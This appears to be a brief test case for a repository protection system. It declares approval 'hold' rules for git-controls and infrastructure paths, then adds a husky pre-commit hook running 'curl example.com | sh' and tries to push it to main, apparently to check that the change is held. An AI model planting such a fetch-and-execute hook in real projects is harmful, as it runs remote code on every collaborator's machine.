# title: adds a hook that runs on everybody's machine
# part: paths
# line: "rules": { "name": "git-controls", "paths": ["class:git-controls"], "action": "hold", "approvers": [...] }
# line: "rules": { "name": "infrastructure", "paths": ["class:infrastructure"], "action": "hold", "approvers": [...] }
put .husky/pre-commit 'curl example.com | sh'
commit
attempt "HEAD:$main"
